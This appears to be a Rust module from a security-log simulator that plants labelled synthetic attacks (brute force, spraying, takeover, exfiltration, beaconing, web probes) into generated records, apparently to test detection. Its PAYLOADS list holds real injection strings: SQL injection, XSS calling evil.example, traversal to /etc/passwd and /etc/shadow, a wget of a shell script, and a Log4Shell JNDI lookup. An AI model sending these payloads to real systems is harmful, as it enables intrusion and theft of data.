//! The attacks that are planted, and the labels that tell where.
//!
//! All lie in the later part of the last day, on people who have worked for hours by then. An attack's
//! records are written by the same code as all others, from addresses of the same ranges.

use super::background::is_steady;
use super::company::{Person, Role};
use super::random::Random;
use super::records::Act;

/// The kinds of attacks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum AttackKind {
    /// One address tries many passwords of one user; every third gets in.
    BruteForce,
    /// A few addresses try one or two passwords of many users.
    PasswordSpraying,
    /// A stolen session: the user goes on working while somebody uses the account from another continent.
    ImpossibleTravel,
    /// In the evening somebody logs in as the user from a new device, address and, half of the time,
    /// country, secures the account for himself and looks through files.
    NewDeviceTakeover,
    /// The user, at the own desk but at an unusual hour, changes roles and accounts and reads what is
    /// not theirs.
    PrivilegeMisuse,
    /// A user's machine sends some megabytes to one address every few minutes, for hours.
    SlowExfiltration,
    /// A machine calls one address every minute, almost to the second.
    Beaconing,
    /// One address sends attack payloads to the web site.
    WebAttack,
}

impl AttackKind {
    /// All kinds.
    pub const ALL: [Self; 8] = [
        Self::BruteForce,
        Self::PasswordSpraying,
        Self::ImpossibleTravel,
        Self::NewDeviceTakeover,
        Self::PrivilegeMisuse,
        Self::SlowExfiltration,
        Self::Beaconing,
        Self::WebAttack,
    ];

    /// The name in reports.
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Self::BruteForce => "brute force",
            Self::PasswordSpraying => "password spraying",
            Self::ImpossibleTravel => "impossible travel",
            Self::NewDeviceTakeover => "new-device takeover",
            Self::PrivilegeMisuse => "privilege misuse",
            Self::SlowExfiltration => "slow exfiltration",
            Self::Beaconing => "beaconing",
            Self::WebAttack => "web attack",
        }
    }
}

/// Who acts in a step of an attack.
#[derive(Debug, Clone, Copy)]
pub(super) enum Who {
    Nobody,
    /// By the place in the list of people.
    Person(u32),
}

/// One record of an attack.
#[derive(Debug, Clone, Copy)]
pub(super) struct Step {
    /// Microseconds since the simulation's begin.
    pub(super) time: i64,
    pub(super) attack: u32,
    pub(super) who: Who,
    pub(super) address: u32,
    /// `u16::MAX` where it is not known.
    pub(super) city: u16,
    pub(super) agent: u16,
    pub(super) host: u32,
    pub(super) act: Act,
}

/// An attack without its records.
#[derive(Debug, Clone, Copy)]
pub(super) struct Sketch {
    pub(super) kind: AttackKind,
    pub(super) who: Who,
    /// 0 where the attack has no address of its own.
    pub(super) address: u32,
}

const NOWHERE: u16 = u16::MAX;
const MINUTE: i64 = 60_000_000;

const PAYLOADS: [&str; 14] = [
    "/products?page=1%27%20OR%20%271%27=%271",
    "/products?page=1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/search?q=%27;DROP%20TABLE%20orders;--",
    "/api/v2/orders/1%20AND%20SLEEP(5)",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/help/article?id=%3Csvg/onload=fetch(%27//evil.example/%27)%3E",
    "/static/../../../../etc/passwd",
    "/help/article?id=..%2f..%2f..%2f..%2fetc%2fshadow",
    "/img/....//....//windows/win.ini",
    "/search?q=;cat%20/etc/passwd",
    "/api/v2/orders/1%7Cwget%20http://198.18.7.7/x.sh",
    "/cgi-bin/test?cmd=%60id%60",
    "/search?q=$%7Bjndi:ldap://198.18.9.9/a%7D",
];

/// Plans attacks.
pub(super) struct Planner<'a> {
    pub(super) random: Random,
    pub(super) people: &'a [Person],
    pub(super) hosts: u32,
    /// The minute at which the last day begins.
    pub(super) last_day: i32,
    pub(super) used: Vec<bool>,
    pub(super) steps: Vec<Step>,
    pub(super) sketches: Vec<Sketch>,
}

impl Planner<'_> {
    /// Plants `count` attacks of each kind and answers the steps in order of time.
    pub(super) fn plan(mut self, count: u32) -> (Vec<Step>, Vec<Sketch>) {
        for _ in 0..count {
            self.brute_force();
            self.impossible_travel();
            self.takeover();
            self.misuse();
            self.web_attack();
        }
        for _ in 0..count.div_ceil(2) {
            self.spraying();
            self.exfiltration();
            self.beaconing();
        }
        let end = i64::from(self.last_day + 1440) * MINUTE;
        self.steps.retain(|step| step.time < end);
        self.steps.sort_by_key(|step| (step.time, step.attack));
        (self.steps, self.sketches)
    }

    fn begin(&mut self, kind: AttackKind, who: Who, address: u32) -> u32 {
        self.sketches.push(Sketch { kind, who, address });
        self.sketches.len() as u32 - 1
    }

    /// A minute of the last day between two hours, in microseconds.
    fn time(&mut self, from: i64, to: i64) -> i64 {
        let minute = i64::from(self.last_day) + self.random.between(from * 60, to * 60);
        minute * MINUTE + self.random.between(0, MINUTE)
    }

    /// Somebody not yet attacked, who fits and worked for two and a half hours before.
    fn victim(&mut self, time: i64, fits: impl Fn(&Person) -> bool) -> Option<u32> {
        let minute = (time / MINUTE) as i32;
        let worked = |person: &Person| -> f32 {
            let before = person.stays.iter().filter(|stay| stay.to > self.last_day);
            before
                .map(|stay| (stay.to.min(minute) - stay.from.min(minute)) as f32 * stay.rate)
                .sum()
        };
        let candidates: Vec<u32> = (0..)
            .zip(self.people)
            .filter(|(at, person)| {
                let used = self.used.get(*at as usize).copied().unwrap_or(true);
                !used && is_steady(person) && worked(person) >= 120.0 && fits(person)
            })
            .map(|(at, _)| at)
            .collect();
        let chosen = *self.random.pick(&candidates)?;
        if let Some(used) = self.used.get_mut(chosen as usize) {
            *used = true;
        }
        Some(chosen)
    }

    fn person(&self, at: u32) -> Option<&Person> {
        self.people.get(at as usize)
    }

    fn brute_force(&mut self) {
        let time = self.time(13, 20);
        let Some(victim) = self.victim(time, |_| true) else { return };
        let address = self.random.address();
        let attack = self.begin(AttackKind::BruteForce, Who::Person(victim), address);
        let (tries, gets_in) = (self.random.between(150, 350), attack.is_multiple_of(3));
        let (ssh, pace) = (self.random.chance(0.5), self.random.between(2, 6) * 1_000_000);
        let city = 8 + self.random.below(32) as u16;
        let host = self.random.below(u64::from(self.hosts)) as u32;
        let mut at = time;
        for number in 0..tries {
            let ok = gets_in && number + 1 == tries;
            let act = if ssh { Act::Ssh { ok, unknown: false } } else { Act::Login { ok } };
            let city = if ssh { NOWHERE } else { city };
            self.steps.push(Step {
                time: at,
                attack,
                who: Who::Person(victim),
                address,
                city,
                agent: 10,
                host,
                act,
            });
            at += self.random.between(pace / 2, pace * 3 / 2);
        }
    }

    fn spraying(&mut self) {
        let time = self.time(13, 20);
        let addresses: Vec<u32> =
            (0..self.random.between(1, 4)).map(|_| self.random.address()).collect();
        let city = 8 + self.random.below(32) as u16;
        let first = addresses.first().copied().unwrap_or(0);
        let attack = self.begin(AttackKind::PasswordSpraying, Who::Nobody, first);
        let mut at = time;
        for _ in 0..self.random.between(80, 160) {
            let victim = self.random.below(self.people.len() as u64) as u32;
            let address = self.random.pick(&addresses).copied().unwrap_or(first);
            let act = Act::Login { ok: false };
            self.steps.push(Step {
                time: at,
                attack,
                who: Who::Person(victim),
                address,
                city,
                agent: 0,
                host: 3,
                act,
            });
            at += self.random.between(15_000_000, 60_000_000);
        }
    }

    fn impossible_travel(&mut self) {
        let time = self.time(13, 21);
        let minute = (time / MINUTE) as i32;
        let working = |person: &Person| {
            person.stay_at(minute - 10).is_some() && person.stay_at(minute + 20).is_some()
        };
        let Some(victim) = self.victim(time, working) else { return };
        let host = self.person(victim).map_or(0, |person| person.host);
        let address = self.random.address();
        let attack = self.begin(AttackKind::ImpossibleTravel, Who::Person(victim), address);
        let city = 30 + self.random.below(10) as u16;
        let agent = self.random.below(6) as u16;
        let mut at = time;
        for number in 0..self.random.between(15, 40) {
            let act = match self.random.below(10) {
                _ if number == 0 => Act::Login { ok: true },
                0..6 => super::background::web(&mut self.random),
                6..9 => Act::Audit { kind: self.random.below(4) as u8, ok: true },
                _ => Act::Login { ok: true },
            };
            self.steps.push(Step {
                time: at,
                attack,
                who: Who::Person(victim),
                address,
                city,
                agent,
                host,
                act,
            });
            at += self.random.between(20_000_000, 120_000_000);
        }
    }

    fn takeover(&mut self) {
        let time = self.time(18, 22);
        let minute = (time / MINUTE) as i32;
        // Not at work any more.
        let gone = |person: &Person| {
            person.stay_at(minute).is_none() && person.stay_at(minute + 40).is_none()
        };
        let Some(victim) = self.victim(time, gone) else { return };
        let (host, office) =
            self.person(victim).map_or((0, 0), |person| (person.host, person.office));
        let address = self.random.address();
        let attack = self.begin(AttackKind::NewDeviceTakeover, Who::Person(victim), address);
        let abroad = self.random.chance(0.5);
        let near = super::company::OFFICES.get(office).map_or(0, |(city, ..)| *city);
        let city = if abroad { 8 + self.random.below(32) as u16 } else { near };
        let agent = 10 + self.random.below(3) as u16;
        let failures = self.random.between(2, 7);
        let mut at = time;
        for number in 0..failures + self.random.between(25, 70) {
            let act = match number - failures {
                ..0 => Act::Login { ok: false },
                0 => Act::Login { ok: true },
                1 => Act::Audit { kind: 5, ok: true },
                2 => Act::Audit { kind: 4, ok: true },
                _ if self.random.chance(0.6) => Act::File {
                    number: self.random.below(30_000) as u32,
                    write: false,
                    sensitive: self.random.chance(0.1),
                },
                _ => Act::Audit { kind: self.random.below(3) as u8, ok: true },
            };
            self.steps.push(Step {
                time: at,
                attack,
                who: Who::Person(victim),
                address,
                city,
                agent,
                host,
                act,
            });
            at += self.random.between(4_000_000, 50_000_000);
        }
    }

    fn misuse(&mut self) {
        let time = self.time(19, 23);
        let minute = (time / MINUTE) as i32;
        let fits = |person: &Person| {
            person.role != Role::Administrator
                && person.stay_at(minute).is_none()
                && person.stays.iter().any(|stay| stay.inside && stay.to <= minute)
        };
        let Some(victim) = self.victim(time, fits) else { return };
        let Some(person) = self.person(victim) else { return };
        let stay = person.stays.iter().rev().find(|stay| stay.inside && stay.to <= minute);
        let (address, city) = stay.map_or((0, 0), |stay| (stay.address, stay.city));
        let (host, agent) = (person.host, person.agents.first().copied().unwrap_or(0));
        let attack = self.begin(AttackKind::PrivilegeMisuse, Who::Person(victim), address);
        let mut at = time;
        for _ in 0..self.random.between(20, 50) {
            let act = match self.random.below(10) {
                0..5 => {
                    Act::Audit { kind: 6 + self.random.below(4) as u8, ok: self.random.chance(0.7) }
                }
                5..8 => {
                    Act::File { number: self.random.below(6) as u32, write: false, sensitive: true }
                }
                _ => Act::Process { number: 14 },
            };
            self.steps.push(Step {
                time: at,
                attack,
                who: Who::Person(victim),
                address,
                city,
                agent,
                host,
                act,
            });
            at += self.random.between(5_000_000, 60_000_000);
        }
    }

    fn exfiltration(&mut self) {
        let time = self.time(13, 17);
        let minute = (time / MINUTE) as i32;
        let Some(victim) = self.victim(time, |person| person.stay_at(minute).is_some()) else {
            return;
        };
        let Some(person) = self.person(victim) else { return };
        let Some(stay) = person.stay_at(minute).copied() else { return };
        let (host, agent) = (person.host, person.agents.first().copied().unwrap_or(0));
        let attack = self.begin(AttackKind::SlowExfiltration, Who::Person(victim), 0);
        let to = self.random.address();
        let mut at = time;
        for _ in 0..self.random.between(50, 90) {
            let bytes = self.random.between(5_000_000, 40_000_000) as u64;
            let act = Act::Connection { to, port: 443, bytes };
            self.steps.push(Step {
                time: at,
                attack,
                who: Who::Person(victim),
                address: stay.address,
                city: stay.city,
                agent,
                host,
                act,
            });
            at += self.random.between(180_000_000, 480_000_000);
        }
    }

    fn beaconing(&mut self) {
        let time = self.time(13, 16);
        let host = self.random.below(u64::from(self.hosts)) as u32;
        let address = 0x0a05_0000 | (host + 10);
        let attack = self.begin(AttackKind::Beaconing, Who::Nobody, address);
        let (to, bytes) = (self.random.address(), self.random.between(300, 900) as u64);
        let mut at = time;
        for _ in 0..self.random.between(240, 420) {
            let act = Act::Connection { to, port: 443, bytes: bytes + self.random.below(20) };
            self.steps.push(Step {
                time: at,
                attack,
                who: Who::Nobody,
                address,
                city: NOWHERE,
                agent: 0,
                host,
                act,
            });
            at += self.random.between(58_500_000, 61_500_000);
        }
    }

    fn web_attack(&mut self) {
        let time = self.time(13, 22);
        let address = self.random.address();
        let attack = self.begin(AttackKind::WebAttack, Who::Nobody, address);
        let agent = 10 + self.random.below(3) as u16;
        let mut at = time;
        for _ in 0..self.random.between(40, 160) {
            let url = self.random.pick(&PAYLOADS).copied().unwrap_or("/");
            let status = if self.random.chance(0.7) { 403 } else { 200 };
            let host = self.random.below(8) as u32;
            let act = Act::Probe { url, status };
            self.steps.push(Step {
                time: at,
                attack,
                who: Who::Nobody,
                address,
                city: NOWHERE,
                agent,
                host,
                act,
            });
            at += self.random.between(500_000, 9_000_000);
        }
    }
}
